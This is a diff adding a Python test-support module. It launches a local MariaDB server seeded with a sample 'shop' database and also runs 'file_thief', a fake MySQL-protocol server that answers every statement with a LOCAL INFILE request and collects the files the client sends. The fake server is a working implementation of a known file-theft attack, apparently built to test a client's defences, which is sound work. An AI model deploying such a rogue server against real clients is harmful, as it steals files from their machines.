@@ -1,0 +1,151 @@
+"""Run a MariaDB server with a shop in it, where the program is on this machine; and a server that wants files."""
+
+import shutil
+import socket
+import struct
+import subprocess
+import threading
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager, suppress
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from tests.support.workers import free_port
+
+PASSWORD = "Zürich 'n\\ more"
+_SHOP = """
+CREATE DATABASE shop CHARACTER SET utf8mb4; USE shop;
+DROP USER IF EXISTS ''@'localhost';
+CREATE TABLE customers (
+  id bigint PRIMARY KEY, zip varchar(10), name varchar(50), email varchar(80) COLLATE utf8mb4_bin,
+  age int unsigned, spent decimal(12,2), ok tinyint(1), born date, seen datetime(3), doc json);
+INSERT INTO customers VALUES
+  (1, '01234', 'Väinö😀', 'vaino@example.com', 30, 12.50, 1, '1990-02-28', '2024-02-29 10:00:00.5', '{"a":1}'),
+  (2, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL);
+CREATE TABLE salaries (id int);
+CREATE USER reader@'%%' IDENTIFIED BY '%s';
+GRANT SELECT ON shop.customers TO reader@'%%';
+"""
+
+
+@dataclass(frozen=True)
+class ForeignMariadb:
+    """The server; ``reader`` may read the table ``customers`` of the database ``shop``."""
+
+    port: int
+    user: str = "reader"
+    password: str = PASSWORD
+    host: str = "127.0.0.1"
+    database: str = "shop"
+
+
+@dataclass
+class FileThief:
+    """How often a server asked for a file, and what it got."""
+
+    port: int
+    asked: int = 0
+    stolen: list[bytes] = field(default_factory=list)
+
+
+def is_installed() -> bool:
+    """Say whether this machine has the server's programs."""
+    return all(map(shutil.which, ("mariadbd", "mariadb-install-db", "mariadb")))
+
+
+@contextmanager
+def foreign_mariadb(folder: Path) -> Iterator[ForeignMariadb]:
+    """Run the server in a folder until the block ends."""
+    port, data, path = free_port(), folder / "data", folder / "socket"
+    install = [
+        "mariadb-install-db",
+        "--no-defaults",
+        f"--datadir={data}",
+        "--auth-root-authentication-method=normal",
+    ]
+    subprocess.run([*install, "--skip-test-db"], capture_output=True, check=True)
+    command = ["mariadbd", "--no-defaults", f"--datadir={data}", f"--socket={path}", f"--port={port}"]
+    with (folder / "log").open("wb") as log:
+        process = subprocess.Popen(
+            [*command, "--bind-address=127.0.0.1", "--user=root", "--innodb-flush-log-at-trx-commit=0"],
+            stdout=log,
+            stderr=log,
+        )
+    try:
+        deadline = time.monotonic() + 30
+        while not path.exists() and time.monotonic() < deadline:
+            time.sleep(0.1)
+        client = ["mariadb", "--no-defaults", "--default-character-set=utf8mb4", "-u", "root", "-S", str(path)]
+        shop = _SHOP % PASSWORD.replace("\\", "\\\\").replace("'", "\\'")
+        subprocess.run(client, input=shop.encode(), capture_output=True, check=True)
+        yield ForeignMariadb(port)
+    finally:
+        process.terminate()
+        process.wait(timeout=30)
+
+
+@contextmanager
+def file_thief(path: Path) -> Iterator["FileThief"]:
+    """Run a server of the protocol of MySQL that answers every statement with the request to send it a file (LOCAL
+    INFILE)."""
+    listener = socket.create_server(("127.0.0.1", 0))
+
+    def serve() -> None:
+        with suppress(OSError):
+            while True:
+                connection, _address = listener.accept()
+                with suppress(OSError, struct.error), connection:
+                    _steal(connection, path, thief)
+
+    thief = FileThief(listener.getsockname()[1])
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    try:
+        yield thief
+    finally:
+        listener.close()
+
+
+def _steal(connection: socket.socket, path: Path, thief: FileThief) -> None:
+    connection.settimeout(10)
+    capabilities = 0x000FA28D | 0x0080  # with LOCAL FILES
+    greeting = (
+        b"\x0a8.0.36\0" + struct.pack("<I", 1) + b"12345678\0" + struct.pack("<H", capabilities & 0xFFFF)
+        + b"\x2d" + struct.pack("<H", 2) + struct.pack("<H", capabilities >> 16) + b"\x15" + b"\0" * 10
+        + b"123456789012\0mysql_native_password\0"
+    )  # fmt: skip
+    _send(connection, 0, greeting)
+    _receive(connection)
+    _send(connection, 2, b"\0\0\0\x02\0\0\0")  # signed in
+    while True:
+        _number, packet = _receive(connection)
+        if packet[:1] != b"\x03":  # no statement, such as COM_INIT_DB
+            _send(connection, 1, b"\0\0\0\x02\0\0\0")
+            continue
+        thief.asked += 1
+        _send(connection, 1, b"\xfb" + str(path).encode())
+        number, content = _receive(connection)
+        while content:
+            thief.stolen.append(content)
+            number, content = _receive(connection)
+        _send(connection, number + 1, b"\0\0\0\x02\0\0\0")
+
+
+def _send(connection: socket.socket, number: int, payload: bytes) -> None:
+    connection.sendall(struct.pack("<I", len(payload))[:3] + bytes([number % 256]) + payload)
+
+
+def _receive(connection: socket.socket) -> tuple[int, bytes]:
+    head = _exactly(connection, 4)
+    return head[3], _exactly(connection, int.from_bytes(head[:3], "little"))
+
+
+def _exactly(connection: socket.socket, size: int) -> bytes:
+    found = b""
+    while len(found) < size:
+        piece = connection.recv(size - len(found))
+        if not piece:
+            raise OSError("the client has left")
+        found += piece
+    return found
